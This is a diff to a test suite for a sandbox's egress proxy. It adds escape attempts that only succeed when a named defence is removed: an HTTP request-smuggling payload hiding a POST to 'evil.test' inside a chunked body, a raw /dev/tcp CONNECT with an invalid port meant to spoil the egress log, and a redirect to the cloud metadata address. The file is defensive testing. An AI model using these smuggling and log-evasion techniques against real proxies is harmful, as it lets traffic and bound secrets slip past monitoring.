@@ -5,12 +5,15 @@
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { jobEnvironment } from "#shared/protocol/job";
+import { gatewayPaths } from "#shared/protocol/runner";
 import { triesEveryRow } from "../kit/share.ts";
-import { claimFor } from "../sandbox/support/gateway.ts";
+import { claimFor, type FakeGateway } from "../sandbox/support/gateway.ts";
 import { execute } from "../sandbox/support/host.ts";
 import { type Alteration, runnerPrograms } from "../sandbox/support/programs.ts";
 import { allowing, publicAddress, TestInternet } from "../sandbox/support/test-internet.ts";
 
+/** Paths that any server was asked for. */
+const arrived = new Set<string>();
 const metadata = "169.254.169.254";
 const inner = "10.0.0.1";
 const internet = new TestInternet({
@@ -21,6 +24,8 @@ const internet = new TestInternet({
     "inside.test": [[inner]],
   },
   serve: (request, response) => {
+    arrived.add(request.url ?? "");
+    if (request.url === "/leave") return void request.socket.destroy();
     if (request.url !== "/redirect") return void response.end(`hello from ${request.headers.host}`);
     response.writeHead(302, { location: `http://${metadata}/hello` }).end();
   },
@@ -72,16 +77,73 @@ const defences = {
     find: "if (asked?.name !== host.name) {",
     replace: "if (asked === null) {",
   },
+  "chunks stay chunks, whatever the method": {
+    file: "shared/http/framing.ts",
+    find: 'if (framing.kind === "chunked") return [',
+    replace: 'if (framing.kind === "chunked" && !isBodiless) return [',
+  },
+  "a connection ends with a body that its method hasn't": {
+    file: "shared/http/framing.ts",
+    find: "keepAlive && !(isBodiless && hasBody(framing));",
+    replace: "keepAlive;",
+  },
+  "a port beyond the last is none": {
+    file: "runner/egress/request-target.ts",
+    find: "const portMax = 65_535;",
+    replace: "const portMax = 99_999;",
+  },
+  "the log takes what can be stored": {
+    file: "runner/egress/egress-log.ts",
+    find: "this.#add(data ?? bare({ ...attempt, sequence: 1 }));",
+    replace: "this.#add({ ...attempt, sequence: 1 });",
+  },
+  "a batch that is refused is split": {
+    file: "runner/egress/egress-log.ts",
+    find: "if (this.#deps.isRefused(error)) return this.#split(batch, ends);",
+    replace: "if (this.#deps.isRefused(error)) return this.#batches.shift() !== undefined;",
+  },
+  "what isn't stored isn't made": {
+    file: "runner/egress/exits.ts",
+    find: "await Promise.all([attempt.open(), connecting])",
+    replace: "await Promise.all([attempt.open().catch(() => {}), connecting])",
+  },
+  "a host that has gone is told, not thrown": {
+    file: "runner/egress/bound-exchange.ts",
+    find: "if (made === null) done?.(",
+    replace: "if (made === null) throw (",
+  },
+  "what nobody catches ends one execution": {
+    file: "runner/supervisor/supervise.ts",
+    find: 'process.on("uncaughtException", ',
+    replace: 'process.on("uncaughtExceptionMonitor", ',
+  },
 } as const satisfies Readonly<Record<string, Alteration>>;
 
 interface Attempt {
   readonly name: string;
   readonly control: string;
   readonly network: Parameters<TestInternet["claim"]>[0];
-  /** Escapes if it prints the server's hello. */
   readonly script: string;
+  /** Escapes if it prints the server's hello, unless something else is said. */
+  readonly escaped?: (gateway: FakeGateway) => boolean;
+  /** What the gateway is made to do. */
+  readonly prepare?: (gateway: FakeGateway) => void;
   readonly behind: readonly (keyof typeof defences)[];
 }
+
+/** Speaks HTTP by hand in a tunnel to the host that a secret is bound to. */
+const byHand = (...requests: readonly string[]) => `node -e '
+const s = require("net").connect(3128, "127.0.0.1");
+s.write("CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n");
+s.once("data", () => {
+  const options = { socket: s, servername: "allowed.test", rejectUnauthorized: false };
+  const t = require("tls").connect(options, () => t.write(${JSON.stringify(requests.join(""))}));
+  t.on("error", () => {}).on("data", () => {}).on("close", () => console.log("curl says bye"));
+});'`;
+const toBound = (line: string, rest = "") =>
+  `${line} HTTP/1.1\r\nHost: allowed.test\r\n${rest}\r\n`;
+const hidden = "POST /smuggled HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 0\r\n\r\n";
+const inChunks = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
 
 const inwards = [
   "every answer is looked at",
@@ -154,6 +216,50 @@ const attempts: readonly Attempt[] = [
     script: `curl -s --connect-to allowed.test:443:${publicAddress}:443 https://allowed.test/`,
     behind: ["names alone are listed", "TLS names the host that was asked for"],
   },
+  {
+    name: "a request in the body of one to a host of a secret",
+    control: "NET-5",
+    network: listed,
+    script: byHand(
+      toBound("GET /a", "Transfer-Encoding: chunked\r\n") + inChunks,
+      toBound("GET /b", "Connection: close\r\n"),
+    ),
+    escaped: () => arrived.delete("/smuggled"),
+    behind: [
+      "chunks stay chunks, whatever the method",
+      "a connection ends with a body that its method hasn't",
+    ],
+  },
+  {
+    name: "an attempt that spoils the log of the others",
+    control: "NET-6",
+    network: listed,
+    script: `curl -s http://other.test/
+      (exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT a.test:99999 HTTP/1.1\\r\\nHost: a.test:99999\\r\\n\\r\\n' >&3 &&
+      head -c 20 <&3); echo curl says bye`,
+    escaped: ({ egress }) => !egress.some(({ host }) => host === "other.test"),
+    behind: [
+      "a port beyond the last is none",
+      "the log takes what can be stored",
+      "a batch that is refused is split",
+    ],
+  },
+  {
+    name: "what leaves while nobody records it",
+    control: "NET-6",
+    network: listed,
+    script: "curl -s http://allowed.test/",
+    prepare: ({ failures }) => failures.set(gatewayPaths.egress, { status: 401, times: 99 }),
+    behind: ["what isn't stored isn't made"],
+  },
+  {
+    name: "requests sent ahead to a host that leaves",
+    control: "NET-6",
+    network: listed,
+    script: byHand(toBound("GET /leave"), toBound("GET /leave")),
+    escaped: ({ settled }) => settled === undefined,
+    behind: ["a host that has gone is told, not thrown", "what nobody catches ends one execution"],
+  },
 ];
 
 const rows: string[] = [];
@@ -164,7 +270,7 @@ afterAll(() => {
   console.log([...rows, `${counted} without the defence`].join("\n"));
 });
 
-describe.each(["EXE-6", "NET-2"])("%s past the proxy", (control) => {
+describe.each(["EXE-6", "NET-2", "NET-5", "NET-6"])("%s past the proxy", (control) => {
   const own = attempts.filter((attempt) => attempt.control === control);
 
   test.concurrent.each(own)("$name", { timeout: 120_000 }, async (attempt) => {
@@ -189,15 +295,21 @@ describe.each(["EXE-6", "NET-2"])("%s past the proxy", (control) => {
 
 /** Whether it reaches the server through a runner that lacks `missing`. */
 async function escapes(
-  { network, script }: Attempt,
+  { control, network, script, prepare, escaped }: Attempt,
   missing: readonly (keyof typeof defences)[],
 ): Promise<boolean> {
   const programs = await runnerPrograms(...missing.map((name) => defences[name]));
-  const claim = claimFor(`${script} || echo "curl says $?"`, internet.claim(network));
+  const secret = { key: "KEY", value: "a-secret-of-the-owner", headers: ["x-key"] };
+  const isBound = control === "NET-5" || control === "NET-6";
+  const boundSecrets = isBound ? [{ ...secret, hosts: ["allowed.test"] }] : [];
+  const claimed = { ...internet.claim(network), boundSecrets };
+  const claim = claimFor(`${script} || echo "curl says $?"`, claimed);
   const program = join(programs, "launcher.cjs");
-  const { gateway } = await execute(claim, "A", { program, environment: environment() });
+  const options = { program, environment: environment(), ...(prepare && { prepare }) };
+  const { gateway } = await execute(claim, "A", options);
+  if (escaped?.(gateway)) return true;
   const output = gateway.settled?.output ?? "";
   // A refusal is told, or curl is: silence would mean that nothing was tried.
   expect(output).toMatch(/hello from|"rule":|curl says/);
-  return output.includes("hello from");
+  return escaped === undefined && output.includes("hello from");
 }
